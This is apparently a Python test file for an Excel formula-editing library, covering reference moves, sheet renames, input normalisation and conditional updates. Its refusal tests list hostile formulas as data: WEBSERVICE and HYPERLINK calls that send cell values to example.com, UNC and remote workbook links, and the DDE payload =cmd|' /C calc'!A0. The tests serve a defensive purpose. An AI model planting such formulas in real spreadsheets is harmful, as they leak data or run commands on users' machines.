"""Formulas come only when asked for, and their references go where they should."""

from datetime import date
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.workbook.defined_name import DefinedName

from sanbo.documents.excel.book import (
    ClearCells,
    ClearCellsIf,
    Condition,
    ReplaceInFormulas,
    UpdateCells,
    UpdateCellsIf,
    UpdateFormula,
    UpdateRange,
)
from sanbo.documents.excel.references import (
    moved,
    references,
    with_names_changed,
    with_rows_inserted,
    with_sheet_renamed,
)
from sanbo.documents.excel.workbook import Workbook
from sanbo.kernel.problems import InvalidInput, LimitExceeded, NotFound, PermissionDenied
from tests.cpu_time import timed
from tests.unit.documents.excel_files import (
    opened,
    parts,
    sales_report,
    saved,
    staff_table,
    with_results,
    workbook,
)


@pytest.mark.parametrize(
    ("formula", "expected"),
    [
        ("SUM(A1:B$2)+$C3", "SUM(B2:C$2)+$C4"),
        ('"A1"&A1', '"A1"&B2'),
        ("LOG10(A1)", "LOG10(B2)"),
        ("表1[[#This Row],[A1]]+A1", "表1[[#This Row],[A1]]+B2"),
        ("'4月 売上'!$B$2:B12", "'4月 売上'!$B$2:C13"),
        ("売上!A1+単価", "売上!B2+単価"),
        ("A1:INDEX(B:B,3)", "B2:INDEX(C:C,3)"),
        ("3:4+$3:$4", "4:5+$3:$4"),
        ("'It''s'!A1", "'It''s'!B2"),
        ("売上A1+Sheet1!名前", "売上A1+Sheet1!名前"),
        ("A1048576", "#REF!"),
        ("A1:売上!B2", "B2:売上!C3"),
        ("IF(A1>1E5,TRUE)", "IF(B2>1E5,TRUE)"),
    ],
)
def test_references_move_with_their_cell(formula: str, expected: str) -> None:
    assert moved(formula, 1, 1) == expected


@pytest.mark.parametrize(
    ("formula", "expected"),
    [
        ("SUM(A1:A9)", "SUM(A1:A11)"),
        ("A4+A5+$A$5", "A4+A7+$A$7"),
        ("別!A9+表!A9", "別!A9+表!A11"),
        ("A:A+5:6", "A:A+7:8"),
        ("A2:A1048576", "A2:A1048576"),
        ("[1]表!A9", "[1]表!A9"),
        ('"A9"', '"A9"'),
    ],
)
def test_references_follow_rows_that_come_in_between(formula: str, expected: str) -> None:
    assert with_rows_inserted(formula, "表", "表", 5, 2) == expected


def test_sheets_and_tables_are_renamed_only_where_they_are_meant() -> None:
    assert with_sheet_renamed("'雛形'!A1+雛形2!A1+\"雛形!A1\"", "雛形", "4月 分") == (
        "'4月 分'!A1+雛形2!A1+\"雛形!A1\""
    )
    assert with_names_changed('SUM(表1[額])+表1(2)+"表1"', {"表1": "表1_2"}) == (
        'SUM(表1_2[額])+表1(2)+"表1"'
    )


@given(st.text(alphabet="A1$:!'\"[](),+&売上 BZ09.#{}", max_size=30))
def test_any_text_is_read_without_failing_and_moved_nowhere_stays_itself(text: str) -> None:
    assert moved(text, 0, 0) == text
    for reference in references(text):
        assert reference.area.top >= 1


@given(st.integers(1, 1000), st.integers(0, 50), st.integers(0, 20), st.booleans())
def test_moving_there_and_back_gives_the_same_formula(
    row: int, rows: int, columns: int, fixed: bool
) -> None:
    formula = f"SUM({'$' * fixed}B{row}:C$3)*売上!D{row}+A1:売上!B2+'4月 分'!E:E*{row}"
    assert moved(moved(formula, rows, columns), -rows, -columns) == formula


def test_a_formula_fills_a_range_with_its_references_moved() -> None:
    book = Workbook(sales_report())
    change = book.apply(UpdateFormula(sheet="売上", range="F4:F6", formula="=ROUND(E4*$C$1,0)"))
    assert [c.after.formula for c in change.cells] == [
        "=ROUND(E4*$C$1,0)",
        "=ROUND(E5*$C$1,0)",
        "=ROUND(E6*$C$1,0)",
    ]
    sheet = opened(book.save())["売上"]
    assert (sheet["F6"].value, sheet["F6"].data_type) == ("=ROUND(E6*$C$1,0)", "f")


def test_functions_younger_than_the_format_get_their_prefix() -> None:
    book = Workbook(sales_report())
    formula = '=IFS(A1="x",XLOOKUP(A1,B:B,C:C))'
    change = book.apply(UpdateFormula(sheet="売上", range="G1", formula=formula))
    stored = '=_xlfn.IFS(A1="x",_xlfn.XLOOKUP(A1,B:B,C:C))'
    assert change.cells[0].after.formula == stored
    assert book.apply(UpdateFormula(sheet="売上", range="G1", formula=stored)).cells == ()


def test_functions_that_give_arrays_are_written_as_array_formulas() -> None:
    book = Workbook(sales_report())
    book.apply(UpdateFormula(sheet="売上", range="G1", formula="=SUM(FILTER(E4:E6,D4:D6>5))"))
    xml = parts(book.save())["xl/worksheets/sheet1.xml"]
    assert b'<f t="array" ref="G1">SUM(_xlfn._xlws.FILTER(E4:E6,D4:D6&gt;5))</f>' in xml


@pytest.mark.parametrize(
    "formula",
    [
        '=WEBSERVICE("http://example.com/?"&A1)',
        "=webservice(A1)",
        "='[他のブック.xlsx]Sheet1'!A1",
        "=[1]Sheet1!A1",
        '=RTD("x",,"y")',
        '=IMAGE("http://example.com/x.png")',
        "=WEBSERVICE (A1)",
        "=ＷＥＢＳＥＲＶＩＣＥ（A1）",
        "='\\\\server\\share\\[a.xlsx]S'!A1",
        "='http://example.com/[a.xlsx]S'!A1",
        "='\\\\server\\share\\a.xlsx'!名前",
        "=[1]!名前",
        "=_xll.FOO()",
        "=_xlfn.WEBSERVICE(A1)",
        '=EVALUATE("1")',
        '=IMPORTDATA("http://example.com")',
        "=FOO.XLA!bar()",
        '=CUBEVALUE("x","y")',
        '=HYPERLINK("http://example.com/?"&A1,"詳細")',
        '=HYPERLINK ("http://example.com/?"&A1,"詳細")',
        '=IF(A1,HYPERLINK(CONCATENATE("http://example.com/",A1)))',
        "=HYPERLINK(A1)",
        '=HYPERLINK("\\\\server\\share","x")',
    ],
)
def test_formulas_that_reach_out_of_the_workbook_are_refused(formula: str) -> None:
    with pytest.raises(PermissionDenied) as refused:
        Workbook(sales_report()).apply(UpdateFormula(sheet="売上", range="G1", formula=formula))
    assert refused.value.problem.text_id == "excel_formula_reaches_out"


@pytest.mark.parametrize(
    "formula",
    [
        "=",
        "=1+",
        "=SUM(A1",
        '="閉じない',
        "=A1)",
        "=cmd|' /C calc'!A0",
        "=SUM(A2、A3)",
        "=SUM(A2;A3)",
        '=IF(A2>1,“大”,"小")',
        "==1+1",
        "=@A2",
        "=[@単価]*2",
    ],
)
def test_what_is_no_formula_is_refused(formula: str) -> None:
    with pytest.raises(InvalidInput) as refused:
        Workbook(sales_report()).apply(UpdateFormula(sheet="売上", range="G1", formula=formula))
    assert refused.value.problem.text_id == "excel_formula_invalid"


@pytest.mark.parametrize(
    ("written", "stored"),
    [
        ("＝１＋２", "=1+2"),
        ("=ＳＵＭ（Ａ２：Ａ３，１）", "=SUM(A2:A3,1)"),
        ('=IF(A2＞1,"１＋；“x”","小")', '=IF(A2>1,"１＋；“x”","小")'),
        ("=SUM (A2:A3)", "=SUM(A2:A3)"),
        ("=SUM({1,2;3,4})", "=SUM({1,2;3,4})"),
        ("=税率Ａ*2", "=税率Ａ*2"),
        ('=HYPERLINK("https://example.com","x")', '=HYPERLINK("https://example.com","x")'),
        ('=HYPERLINK("#"&A1,"x")', '=HYPERLINK("#"&A1,"x")'),
        ("=社員表[@基本給]*2", "=社員表[[#This Row],[基本給]]*2"),
        (
            "=[@基本給]+[@[氏名]]",
            "=社員表[[#This Row],[基本給]]+社員表[[#This Row],[氏名]]",
        ),
        ('=[@氏名]&"[@氏名]"', '=社員表[[#This Row],[氏名]]&"[@氏名]"'),
    ],
)
def test_formulas_may_be_written_as_excel_shows_and_takes_them(written: str, stored: str) -> None:
    book = Workbook(staff_table())
    change = book.apply(UpdateFormula(sheet="社員", range="D2", formula=written))
    assert change.cells[0].after.formula == stored


@pytest.mark.parametrize("text", ["~", "'", "[", "''a", "'a''", '"', "[a", "a:", "A1:", "!", "a "])
def test_a_long_damaged_formula_is_read_in_little_time(text: str) -> None:
    formula = text * (100_000 // len(text))
    kept, seconds = timed(lambda: moved(formula, 0, 0))
    assert kept == formula
    assert seconds < 2  # in the square of its length it would be minutes


def test_a_name_means_what_it_means_on_the_sheet_of_the_formula() -> None:
    book: Any = openpyxl.Workbook()
    book.active.title = "東京"
    for sheet, rate in ((book["東京"], 1.1), (book.create_sheet("大阪"), 1.08)):
        sheet["A1"], sheet["B1"] = rate, "=税率*100"
        sheet.defined_names["税率"] = DefinedName("税率", attr_text=f"{sheet.title}!$A$1")
    first, second = "xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"
    workbook_ = Workbook(with_results(saved(book), {first: {"B1": "110"}, second: {"B1": "108"}}))
    workbook_.apply(UpdateCells(sheet="東京", cells={"A1": 2}))
    workbook_.save()
    assert workbook_.cell("東京", "B1").value is None
    assert workbook_.cell("大阪", "B1").value == 108


@pytest.mark.parametrize("formula", ["税率・軽減*100", "知らない名前", "東京!税率・軽減", "相対+1"])
def test_results_behind_unusual_names_are_taken_out(formula: str) -> None:
    book: Any = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "東京"
    sheet["A1"], sheet["B1"], sheet["B2"] = 1.1, f"={formula}", "=1.5E3+SUM(C1)"
    book.defined_names["税率・軽減"] = DefinedName("税率・軽減", attr_text="東京!$A$1")
    book.defined_names["相対"] = DefinedName("相対", attr_text="東京!A1")
    data = with_results(saved(book), {"xl/worksheets/sheet1.xml": {"B1": "110", "B2": "1500"}})
    changed = Workbook(data)
    changed.apply(UpdateCells(sheet="東京", cells={"A1": 2}))
    changed.save()
    assert changed.cell("東京", "B1").value is None
    assert changed.cell("東京", "B2").value == 1500


def test_a_formula_too_long_or_with_names_of_its_own_is_refused() -> None:
    book = Workbook(sales_report())
    with pytest.raises(LimitExceeded):
        book.apply(UpdateFormula(sheet="売上", range="G1", formula="=1" + "+1" * 5000))
    with pytest.raises(InvalidInput) as refused:
        book.apply(UpdateFormula(sheet="売上", range="G1", formula="=LET(x,1,x+1)"))
    assert refused.value.problem.text_id == "excel_formula_unsupported"


def test_a_formula_about_a_sheet_that_is_not_there_is_refused() -> None:
    with pytest.raises(NotFound) as refused:
        Workbook(sales_report()).apply(
            UpdateFormula(sheet="売上", range="G1", formula="=集計表!A1")
        )
    assert refused.value.problem.text_id == "excel_sheet_missing"
    assert str(refused.value.problem.params["nearest"]).startswith("集計")


def test_text_inside_formulas_is_replaced_and_values_are_not() -> None:
    data = workbook(
        {"今月": {"A1": "3月", "A2": "='3月'!B1", "A3": "=SUM('3月'!B1:B2)"}, "3月": {}, "4月": {}}
    )
    book = Workbook(data)
    change = book.apply(ReplaceInFormulas(find="3月", replace="4月"))
    assert [(c.cell, c.after.formula) for c in change.cells] == [
        ("A2", "='4月'!B1"),
        ("A3", "=SUM('4月'!B1:B2)"),
    ]
    assert opened(book.save())["今月"]["A1"].value == "3月"


def test_a_replacement_that_breaks_one_formula_changes_none() -> None:
    data = workbook({"表": {"A1": "=SUM(B1)", "A2": "=SUM(B1,(C1))"}})
    book = Workbook(data)
    with pytest.raises(InvalidInput):
        book.apply(ReplaceInFormulas(find="))", replace=")"))
    assert book.save() == data


def test_replacing_can_be_kept_to_a_range() -> None:
    book = Workbook(workbook({"表": {"A1": "=B1", "A2": "=B1"}}))
    change = book.apply(ReplaceInFormulas(find="B1", replace="C1", sheet="表", range="A2:A9"))
    assert [c.cell for c in change.cells] == ["A2"]


def test_clearing_keeps_formats_and_if_wanted_formulas() -> None:
    book = Workbook(sales_report())
    change = book.apply(ClearCells(sheet="売上", range="C4:E6", keep_formulas=True))
    assert {c.cell for c in change.cells} == {"C4", "C5", "C6", "D4", "D5", "D6"}
    sheet = opened(book.save())["売上"]
    assert (sheet["C4"].value, sheet["C4"].number_format) == (None, '#,##0"円"')
    assert sheet["E4"].value == "=C4*D4"
    book.apply(ClearCells(sheet="売上", range="C4:E6"))
    assert opened(book.save())["売上"]["E4"].value is None


@pytest.mark.parametrize(
    ("condition", "cells"),
    [
        (Condition(operator="gt", value=20), ["D5"]),
        (Condition(operator="lte", value=10), ["D4", "D6"]),
        (Condition(operator="between", value=4, value2=10), ["D4", "D6"]),
        (Condition(operator="in", value=(25, "4")), ["D5", "D6"]),
        (Condition(operator="eq", value="25"), ["D5"]),
        (Condition(operator="ne", value=25), ["D4", "D6", "D7"]),
        (Condition(operator="contains", value="5"), ["D5"]),
        (Condition(operator="empty"), ["D7"]),
        (Condition(operator="filled"), ["D4", "D5", "D6"]),
    ],
)
def test_cells_are_updated_where_the_condition_holds(
    condition: Condition, cells: list[str]
) -> None:
    book = Workbook(sales_report())
    update = UpdateCellsIf(sheet="売上", range="D4:D7", condition=condition, value=0)
    assert [c.cell for c in book.apply(update).cells] == cells


def test_dates_are_compared_as_dates() -> None:
    data = workbook({"表": {"A1": date(2025, 3, 31), "A2": date(2025, 4, 1), "A3": "2025年"}})
    book = Workbook(data)
    condition = Condition(operator="gte", value="2025-04-01")
    change = book.apply(ClearCellsIf(sheet="表", range="A1:A3", condition=condition))
    assert [c.cell for c in change.cells] == ["A2"]


@pytest.mark.parametrize(
    "condition", [Condition(operator="in", value=1), Condition(operator="eq", value=(1, 2))]
)
def test_a_condition_of_the_wrong_form_is_refused(condition: Condition) -> None:
    with pytest.raises(InvalidInput) as refused:
        Workbook(sales_report()).apply(
            ClearCellsIf(sheet="売上", range="A4:A4", condition=condition)
        )
    assert refused.value.problem.text_id == "excel_condition_invalid"


def test_a_range_takes_rows_of_values() -> None:
    book = Workbook(sales_report())
    change = book.apply(UpdateRange(sheet="設定", range="D1", rows=((1, "a"), (2, "b"))))
    assert [c.cell for c in change.cells] == ["D1", "E1", "D2", "E2"]


@pytest.mark.parametrize(
    ("area", "rows"), [("D1:E3", ((1, 2), (3, 4))), ("D1", ((1, 2), (3,))), ("D1", ((),))]
)
def test_values_that_do_not_fit_their_range_are_refused(
    area: str, rows: tuple[tuple[int, ...], ...]
) -> None:
    with pytest.raises(InvalidInput) as refused:
        Workbook(sales_report()).apply(UpdateRange(sheet="設定", range=area, rows=rows))
    assert refused.value.problem.text_id == "excel_range_mismatch"
